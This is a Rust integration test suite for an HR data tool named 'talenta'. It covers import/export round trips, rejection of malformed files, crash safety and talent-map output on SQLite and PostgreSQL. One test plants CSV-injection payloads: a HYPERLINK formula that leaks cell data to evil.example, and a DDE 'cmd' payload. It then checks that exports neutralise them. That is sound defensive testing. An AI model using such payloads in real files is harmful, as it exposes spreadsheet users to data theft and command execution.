//! Import, export and the talent map as a user runs them, on SQLite and on
//! PostgreSQL: round trips, idempotent re-imports, bad input that writes
//! nothing, and an importer killed mid-write.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]

mod common;

use std::path::Path;
use std::process::Command;

use common::{city, export_all, generate, ok, stderr, talenta};
use talenta_testkit::{TempDir, TestDb, databases, each_engine};

fn a_generated_city_round_trips_through_export_and_reimport(db: &TestDb) {
    let generated = generate(400, 7, false);
    let first = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    assert!(
        stderr(&first).contains("imported into instansi"),
        "{}",
        stderr(&first)
    );

    let again = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    for line in stderr(&again).lines().filter(|l| l.contains(" rows, ")) {
        assert!(
            line.contains(" 0 written"),
            "{}: re-import wrote: {line}",
            db.engine
        );
    }

    let work = TempDir::new("talenta_export");
    let exported = export_all(db, &work.path().join("a"));
    let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
    assert_eq!(
        pegawai.iter().filter(|b| **b == b'\n').count(),
        401,
        "{}: header and 400 employees",
        db.engine
    );

    // The exported files import into an empty database and export the same.
    reimports_the_same(
        db,
        &exported,
        &work.path().join("a"),
        &work.path().join("b"),
    );
}

/// The files `exported` from `db` into `dir` import into an empty
/// database of the same engine, which exports them (into `again`) the same.
fn reimports_the_same(db: &TestDb, exported: &[(String, Vec<u8>)], dir: &Path, again: &Path) {
    let other = db.another();
    ok(&["import", "--dir", dir.to_str().unwrap(), "--db", &other.url]);
    assert_eq!(
        exported,
        export_all(&other, again),
        "{}: export → import → export differs",
        db.engine
    );
}

/// The values of `column` in CSV `bytes`, one per row.
fn cells(bytes: &[u8], column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(bytes);
    let index = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap()[index].to_owned())
        .collect()
}

/// Names, places and titles that a spreadsheet would run as formulas come
/// out of every CSV export with one `'` in front, and an export imports
/// back exactly (docs/formats.md, "Formulas in CSV files").
fn formula_text_is_guarded_in_csv_exports_and_round_trips(db: &TestDb) {
    let generated = generate(40, 5, false);
    let file = generated.path().join("city/pegawai.csv");
    let evil = [
        (
            "nama",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
        ),
        ("tempatLahir", "+cmd|' /C calc'!A0"),
        ("gelarDepan", "-5"),
        ("gelarBelakang", "''quoted"),
    ];
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let header = reader.headers().unwrap().clone();
    let mut rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let first: Vec<String> = rows[0].iter().map(str::to_owned).collect();
    let mut edited = first.clone();
    for (column, value) in evil {
        let i = header.iter().position(|h| h == column).unwrap();
        edited[i] = value.to_owned();
    }
    rows[0] = csv::StringRecord::from(edited);
    let mut writer = csv::Writer::from_path(&file).unwrap();
    writer.write_record(&header).unwrap();
    for row in &rows {
        writer.write_record(row).unwrap();
    }
    writer.flush().unwrap();
    let nip = first[0].clone();

    let work = TempDir::new("talenta_formula");
    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    let exported = export_all(db, &work.path().join(db.engine));
    let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
    let at = cells(pegawai, "nipBaru")
        .iter()
        .position(|n| *n == nip)
        .unwrap();
    for (column, expected) in [
        (
            "nama",
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
        ),
        ("tempatLahir", "'+cmd|' /C calc'!A0"),
        ("gelarDepan", "'-5"),
        ("gelarBelakang", "''quoted"),
    ] {
        assert_eq!(cells(pegawai, column)[at], expected, "{}", db.engine);
    }
    for (kind, bytes) in &exported {
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {kind}: unguarded {cell:?}",
                    db.engine
                );
            }
        }
    }

    // The talent map's CSV guards the name too and keeps scores numbers.
    let map = work.path().join(format!("{}-map.csv", db.engine));
    let missing = work.path().join(format!("{}-missing.csv", db.engine));
    map_into(db, &map, Some(&missing));
    let (map, missing) = (
        std::fs::read(&map).unwrap(),
        std::fs::read(&missing).unwrap(),
    );
    let names: Vec<String> = cells(&map, "name")
        .into_iter()
        .chain(cells(&missing, "name"))
        .collect();
    // The map shows the name with its titles: `-5 =HYPERLINK(…), 'quoted`.
    let shown = "'-5 =HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\"), 'quoted";
    assert!(names.iter().any(|n| n == shown), "{}: {names:?}", db.engine);
    for score in cells(&map, "kinerja") {
        assert!(score.parse::<f64>().is_ok(), "{score:?}");
    }

    // The export imports into an empty database and exports the same.
    let again = work.path().join(format!("{}-again", db.engine));
    reimports_the_same(db, &exported, &work.path().join(db.engine), &again);
}

#[test]
fn the_same_city_gives_the_same_export_on_both_engines() {
    let generated = generate(300, 11, false);
    let work = TempDir::new("talenta_engines");
    let exports: Vec<_> = databases()
        .into_iter()
        .map(|db| {
            ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
            export_all(&db, &work.path().join(db.engine))
        })
        .collect();
    if let [sqlite, postgres] = exports.as_slice() {
        assert_eq!(sqlite, postgres);
    }
}

/// Imports a base city, then `bad` (files to put over a copy of it) and
/// checks the import fails with `expect` in its messages and changes
/// nothing.
fn rejected(db: &TestDb, files: &[(&str, &[u8])], expect: &[&str]) {
    let generated = generate(120, 3, false);
    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    let work = TempDir::new("talenta_bad");
    let before = export_all(db, &work.path().join("before"));
    let bad = work.path().join("bad");
    std::fs::create_dir_all(&bad).unwrap();
    for (name, bytes) in files {
        std::fs::write(bad.join(name), bytes).unwrap();
    }
    let out = talenta(&["import", "--dir", bad.to_str().unwrap(), "--db", &db.url]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}: {}",
        db.engine,
        stderr(&out)
    );
    for needle in expect {
        assert!(
            stderr(&out).contains(needle),
            "{}: expected {needle:?} in:\n{}",
            db.engine,
            stderr(&out)
        );
    }
    let after = export_all(db, &work.path().join("after"));
    assert_eq!(
        before, after,
        "{}: a failed import changed the data",
        db.engine
    );
}

const PEGAWAI_HEADER: &str = "nipBaru,nama,jenisKelamin,tglLahir,statusPegawai,unorId\n";

/// The code of the first unit of a generated city.
fn opd_of(generated: &TempDir) -> String {
    first_code(generated, "city/opd.csv")
}

/// The code of a generated city's instansi.
fn instansi_of(generated: &TempDir) -> String {
    first_code(generated, "city/instansi.csv")
}

/// The first column of the first row after the header of a generated CSV.
fn first_code(generated: &TempDir, csv: &str) -> String {
    let text = std::fs::read_to_string(generated.path().join(csv)).unwrap();
    text.lines()
        .nth(1)
        .unwrap()
        .split(',')
        .next()
        .unwrap()
        .to_owned()
}

fn bad_rows_are_all_reported_and_nothing_is_written(db: &TestDb) {
    let generated = generate(120, 3, false);
    let opd = opd_of(&generated);
    let good = "198503152010012003";
    let text = format!(
        "{PEGAWAI_HEADER}\
         {good},Siti,P,15-03-1985,PNS,{opd}\n\
         {good},Siti Lagi,P,15-03-1985,PNS,{opd}\n\
         198503152010012,Pendek,P,15-03-1985,PNS,{opd}\n\
         199001012015031001,Budi,L,01-01-1990,PNS,TIDAK-ADA\n\
         199001012015031002,Joko,L,31-02-1990,PNS,{opd}\n"
    );
    rejected(
        db,
        &[("pegawai.csv", text.as_bytes())],
        &[
            "line 3, column 1 (nipBaru)",
            "duplicate key, first at line 2",
            "line 4, column 1 (nipBaru): value \"198503152010012\"",
            "line 5, column 6 (unorId): value \"TIDAK-ADA\": unknown unit",
            "line 6, column 4 (tglLahir): value \"31-02-1990\"",
            "nothing was written",
        ],
    );
}

fn a_truncated_file_is_refused_whole(db: &TestDb) {
    let generated = generate(120, 3, false);
    let opd = opd_of(&generated);
    let text = format!("{PEGAWAI_HEADER}198503152010012003,\"Siti,P,15-03-1985,PNS,{opd}\n");
    rejected(
        db,
        &[("pegawai.csv", text.as_bytes())],
        &["pegawai.csv", "nothing was written"],
    );
}

fn text_that_is_not_utf8_is_located(db: &TestDb) {
    let generated = generate(120, 3, false);
    let opd = opd_of(&generated);
    let mut bytes = PEGAWAI_HEADER.as_bytes().to_vec();
    bytes.extend_from_slice(b"198503152010012003,Siti \xC5ahara,P,15-03-1985,PNS,");
    bytes.extend_from_slice(opd.as_bytes());
    bytes.push(b'\n');
    rejected(
        db,
        &[("pegawai.csv", &bytes)],
        &["line 2, column 2 (nama)", "UTF-8", "nothing was written"],
    );
}

fn an_empty_file_is_refused(db: &TestDb) {
    rejected(
        db,
        &[("pegawai.csv", b"")],
        &["pegawai.csv", "empty", "nothing was written"],
    );
}

fn a_spreadsheet_formula_is_refused(db: &TestDb) {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (column, name) in ["unorId", "unorNama", "unorIndukId"].iter().enumerate() {
        sheet
            .write_string(0, u16::try_from(column).unwrap(), *name)
            .unwrap();
    }
    sheet.write_string(1, 0, "BARU").unwrap();
    sheet
        .write_formula(1, 1, "=CONCAT(\"Badan \", \"Baru\")")
        .unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    rejected(
        db,
        &[("opd.xlsx", &bytes)],
        &["opd.xlsx", "cell B2", "formula"],
    );
}

fn a_cycle_in_the_unit_tree_is_refused(db: &TestDb) {
    let opd = "unorId,unorNama,unorIndukId\nA,Unit A,C\nB,Unit B,A\nC,Unit C,B\nD,Unit D,\n";
    rejected(db, &[("opd.csv", opd.as_bytes())], &["cycle", "A, B, C"]);
}

fn one_bad_file_of_a_directory_keeps_the_others_out(db: &TestDb) {
    let generated = generate(120, 3, false);
    let opd = opd_of(&generated);
    let new_opd = "unorId,unorNama,unorIndukId\nBARU,Badan Baru,\n";
    let pegawai = format!("{PEGAWAI_HEADER}198503152010012003,Siti,X,15-03-1985,PNS,{opd}\n");
    rejected(
        db,
        &[
            ("opd.csv", new_opd.as_bytes()),
            ("pegawai.csv", pegawai.as_bytes()),
        ],
        &["line 2, column 3 (jenisKelamin)"],
    );
}

fn a_dirty_city_is_refused_with_every_problem_listed(db: &TestDb) {
    let generated = generate(2000, 5, true);
    let out = talenta(&["import", "--dir", &city(&generated), "--db", &db.url]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let text = stderr(&out);
    assert!(text.contains("nothing was written"), "{text}");
    assert!(
        text.lines().filter(|l| l.contains(".csv: line ")).count() >= 5,
        "{text}"
    );
    let exported = talenta(&["export", "pegawai", "--db", &db.url]);
    assert!(!exported.status.success(), "no instansi was imported");
}

/// Kills the importer (SIGKILL) while it writes a large city over a smaller
/// one, then checks the database holds exactly the smaller one and, on
/// SQLite, passes `PRAGMA integrity_check`.
fn an_importer_killed_mid_write_leaves_the_database_unchanged(db: &TestDb) {
    let small = generate(200, 21, false);
    let large = generate(60_000, 22, false);
    ok(&["import", "--dir", &city(&small), "--db", &db.url]);
    let work = TempDir::new("talenta_crash");
    let before = export_all(db, &work.path().join("before"));

    let mut child = Command::new(env!("CARGO_BIN_EXE_talenta"))
        .args([
            "import",
            "--dir",
            &city(&large),
            "--db",
            &db.url,
            "--instansi",
        ])
        .arg(instansi_of(&small))
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let writing = wait_until_writing(db, &mut child);
    assert!(writing, "{}: the importer never got to write", db.engine);
    child.kill().unwrap(); // SIGKILL on Unix
    child.wait().unwrap();

    if let Some(path) = db.sqlite_path() {
        let check = Command::new(env!("CARGO_BIN_EXE_talenta"))
            .args(["export", "instansi", "--db", &db.url])
            .output()
            .unwrap();
        assert!(check.status.success(), "{}", stderr(&check));
        assert_eq!(integrity_check(&path), "ok");
    }
    let after = export_all(db, &work.path().join("after"));
    assert_eq!(
        before, after,
        "{}: the killed import left changes",
        db.engine
    );
}

/// A first load into empty SQLite tables drops their secondary indexes and
/// builds them again at the end (`WriteTx::start_load`). Afterwards, and
/// after an import refused in the middle of such a load, the schema is the
/// one the migrations made.
#[test]
fn a_first_load_leaves_the_schema_as_migrated() {
    let generated = generate(300, 7, false);
    let work = TempDir::new("talenta_schema");
    let url = |name: &str| format!("sqlite://{}", work.path().join(name).display());
    // Every command migrates the database first.
    ok(&["export", "instansi", "--db", &url("migrated.db")]);
    ok(&[
        "import",
        "--dir",
        &city(&generated),
        "--db",
        &url("loaded.db"),
    ]);
    let bad = work.path().join("bad");
    std::fs::create_dir_all(&bad).unwrap();
    for kind in ["instansi", "opd", "jabatan", "pegawai"] {
        let file = format!("{kind}.csv");
        std::fs::copy(generated.path().join("city").join(&file), bad.join(&file)).unwrap();
    }
    let mut pegawai = std::fs::read_to_string(bad.join("pegawai.csv")).unwrap();
    pegawai.push_str("not,a,valid,row\n");
    std::fs::write(bad.join("pegawai.csv"), pegawai).unwrap();
    let refused = talenta(&[
        "import",
        "--dir",
        bad.to_str().unwrap(),
        "--db",
        &url("refused.db"),
    ]);
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));

    let migrated = indexes(&work.path().join("migrated.db"));
    assert!(
        migrated.iter().any(|(name, _)| name == "pegawai_opd"),
        "{migrated:?}"
    );
    assert_eq!(indexes(&work.path().join("loaded.db")), migrated);
    assert_eq!(indexes(&work.path().join("refused.db")), migrated);
}

/// The secondary indexes of a SQLite file: name and definition.
fn indexes(path: &Path) -> Vec<(String, String)> {
    on_sqlite(path, async |pool| {
        sqlx::query_as(
            "SELECT name, sql FROM sqlite_schema \
             WHERE type = 'index' AND sql IS NOT NULL ORDER BY name",
        )
        .fetch_all(pool)
        .await
        .unwrap()
    })
}

/// What `query` reads from the SQLite file at `path`.
fn on_sqlite<T>(path: &Path, query: impl AsyncFnOnce(&sqlx::SqlitePool) -> T) -> T {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let url = format!("sqlite://{}", path.display());
        let pool = sqlx::SqlitePool::connect(&url).await.unwrap();
        let result = query(&pool).await;
        pool.close().await;
        result
    })
}

/// Waits until the import has written into its open
/// transaction: the SQLite write-ahead log grows, or PostgreSQL shows the
/// bulk write running. `false` if the process ended first.
fn wait_until_writing(db: &TestDb, child: &mut std::process::Child) -> bool {
    // No deadline of its own: the importer ends either way, and how long it
    // reads before it writes depends on the machine's load (nextest's slow
    // timeout still bounds the test). The pause leaves the cores to it.
    while child.try_wait().unwrap().is_none() {
        let writing = match db.sqlite_path() {
            Some(path) => {
                let wal = path.with_extension("db-wal");
                std::fs::metadata(wal).is_ok_and(|m| m.len() > 4 << 20)
            }
            None => postgres_is_copying(&db.url),
        };
        if writing {
            return true;
        }
        #[expect(
            clippy::disallowed_methods,
            reason = "another process's progress raises no event here to wait on"
        )]
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    false
}

fn postgres_is_copying(url: &str) -> bool {
    let database = url.rsplit('/').next().unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let admin = std::env::var("TALENTA_TEST_PG_URL")
            .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/postgres".to_owned());
        let Ok(pool) = sqlx::PgPool::connect(&admin).await else {
            return false;
        };
        let copied: Option<i64> = sqlx::query_scalar(
            "SELECT count(*) FROM pg_stat_activity \
             WHERE datname = $1 AND (query LIKE 'COPY stage_riwayat%' OR query LIKE 'INSERT INTO riwayat%')",
        )
        .bind(database)
        .fetch_optional(&pool)
        .await
        .ok()
        .flatten();
        pool.close().await;
        copied.is_some_and(|n| n > 0)
    })
}

fn integrity_check(path: &Path) -> String {
    on_sqlite(path, async |pool| {
        sqlx::query_scalar("PRAGMA integrity_check")
            .fetch_one(pool)
            .await
            .unwrap()
    })
}

/// The talent map of the shared city (600 employees, seed 13) on `db`,
/// as JSON in `work`, with the employees it could not place beside it:
/// the summary, the map's path and the missing list's path.
fn mapped(
    generated: &TempDir,
    db: &TestDb,
    work: &Path,
) -> (String, std::path::PathBuf, std::path::PathBuf) {
    ok(&["import", "--dir", &city(generated), "--db", &db.url]);
    let json = work.join(format!("{}.json", db.engine));
    let missing = work.join(format!("{}-missing.csv", db.engine));
    (map_into(db, &json, Some(&missing)), json, missing)
}

/// `talenta map` of 2026-S1 on `db` into `out` and, if given, the
/// employees it could not place into `missing`; its summary.
fn map_into(db: &TestDb, out: &Path, missing: Option<&Path>) -> String {
    let mut args = vec![
        "map",
        "--period",
        "2026-S1",
        "--db",
        &db.url,
        "--out",
        out.to_str().unwrap(),
    ];
    if let Some(missing) = missing {
        args.extend(["--missing", missing.to_str().unwrap()]);
    }
    stderr(&ok(&args))
}

fn the_talent_map_agrees_with_classify(db: &TestDb) {
    let generated = generate(600, 13, false);
    let work = TempDir::new("talenta_map");
    let (summary, json, missing) = mapped(&generated, db, work.path());
    assert!(summary.contains("placed"), "{summary}");

    let placed: Vec<serde_json::Value> =
        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    let left_out = std::fs::read_to_string(&missing).unwrap();
    assert_eq!(left_out.lines().next(), Some("nip,name,opd,missing"));
    assert_eq!(
        placed.len() + left_out.lines().count() - 1,
        600,
        "{}: every employee is placed or listed as missing data",
        db.engine
    );
    assert!(
        placed.len() > 300,
        "{}: most employees are placed",
        db.engine
    );
    for entry in &placed {
        let keys: Vec<&str> = entry
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        for key in ["nip", "name", "opd", "kinerja", "potensial", "box", "label"] {
            assert!(keys.contains(&key), "{key} missing in {entry}");
        }
    }

    // Re-running replaces the snapshot; the stored map exports the same.
    let csv = work.path().join(format!("{}.csv", db.engine));
    map_into(db, &csv, None);
    let exported = ok(&export_map(&db.url));
    assert_eq!(std::fs::read(&csv).unwrap(), exported.stdout);

    // `talenta classify` on the map's own scores gives the same boxes.
    let classified = ok(&["classify", "--input", csv.to_str().unwrap()]);
    let boxes: Vec<String> = String::from_utf8(classified.stdout)
        .unwrap()
        .lines()
        .skip(1)
        .map(|l| l.split(',').take(2).collect::<Vec<_>>().join(","))
        .collect();
    let expected: Vec<String> = placed
        .iter()
        .map(|e| format!("{},{}", e["nip"].as_str().unwrap(), e["box"]))
        .collect();
    assert_eq!(boxes, expected, "{}", db.engine);
}

#[test]
fn the_talent_map_is_the_same_on_both_engines() {
    let generated = generate(600, 13, false);
    let work = TempDir::new("talenta_map");
    let maps: Vec<Vec<u8>> = databases()
        .iter()
        .map(|db| std::fs::read(mapped(&generated, db, work.path()).1).unwrap())
        .collect();
    if let [sqlite, postgres] = maps.as_slice() {
        assert_eq!(sqlite, postgres, "the engines computed different maps");
    }
}

/// The arguments of `talenta export peta_talenta` for 2026-S1 from `url`.
fn export_map(url: &str) -> [&str; 6] {
    ["export", "peta_talenta", "--period", "2026-S1", "--db", url]
}

fn a_map_needs_a_valid_period_and_an_imported_instansi(db: &TestDb) {
    let bad = talenta(&["map", "--period", "2026-S3", "--db", &db.url]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(stderr(&bad).contains("2026-S3"), "{}", stderr(&bad));
    let empty = talenta(&["map", "--period", "2026-S1", "--db", &db.url]);
    assert_eq!(empty.status.code(), Some(1));
    assert!(stderr(&empty).contains("no instansi"), "{}", stderr(&empty));
    let never = talenta(&export_map(&db.url));
    assert_eq!(never.status.code(), Some(1));
}

/// `--out` naming a pipe (or a device: `/dev/null`) writes into it and
/// leaves it a pipe: the write-then-rename of a file, run as root over
/// `/dev/null`, had replaced the device with a regular file.
#[test]
fn an_export_into_a_pipe_leaves_the_pipe() {
    use std::os::unix::fs::FileTypeExt;
    let dir = TempDir::new("talenta_export_fifo");
    let fifo = dir.path().join("pipe");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let generated = generate(40, 7, false);
    let db = talenta_testkit::sqlite();
    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(fifo).unwrap())
    };
    let path = fifo.to_str().unwrap();
    ok(&["export", "instansi", "--out", path, "--db", &db.url]);
    // Checked before waiting for the reader, which a replaced pipe would
    // leave waiting for ever.
    let kind = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(kind.is_fifo(), "still a pipe: {kind:?}");
    let written = String::from_utf8(reader.join().unwrap()).unwrap();
    assert!(written.contains("9999"), "{written}");
}

/// An export writes beside its destination and renames when complete: a
/// failure leaves an existing file as it was and no partial one, and a
/// success replaces it whole.
#[test]
fn a_failed_export_leaves_an_existing_file_as_it_was() {
    let dir = TempDir::new("talenta_export_keep");
    let keep = dir.path().join("keep.xlsx");
    std::fs::write(&keep, b"the good export of yesterday").unwrap();
    let empty = format!("sqlite://{}", dir.path().join("empty.db").display());
    let out = talenta(&[
        "export",
        "pegawai",
        "--out",
        keep.to_str().unwrap(),
        "--db",
        &empty,
    ]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("no instansi"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(&keep).unwrap(),
        b"the good export of yesterday"
    );
    let files = || {
        let mut names: Vec<String> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| !name.starts_with("empty."))
            .collect();
        names.sort();
        names
    };
    assert_eq!(files(), ["keep.xlsx"], "no temporary file is left");

    let generated = generate(40, 7, false);
    let db = talenta_testkit::sqlite();
    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
    ok(&[
        "export",
        "pegawai",
        "--out",
        keep.to_str().unwrap(),
        "--db",
        &db.url,
    ]);
    let workbook = std::fs::read(&keep).unwrap();
    assert!(
        workbook.starts_with(b"PK"),
        "an XLSX (zip) replaced the old file"
    );
    assert_eq!(files(), ["keep.xlsx"]);
}

each_engine!(
    blocking: a_generated_city_round_trips_through_export_and_reimport,
    formula_text_is_guarded_in_csv_exports_and_round_trips,
    bad_rows_are_all_reported_and_nothing_is_written,
    a_truncated_file_is_refused_whole,
    text_that_is_not_utf8_is_located,
    an_empty_file_is_refused,
    a_spreadsheet_formula_is_refused,
    a_cycle_in_the_unit_tree_is_refused,
    one_bad_file_of_a_directory_keeps_the_others_out,
    a_dirty_city_is_refused_with_every_problem_listed,
    an_importer_killed_mid_write_leaves_the_database_unchanged,
    a_map_needs_a_valid_period_and_an_imported_instansi,
    the_talent_map_agrees_with_classify,
);
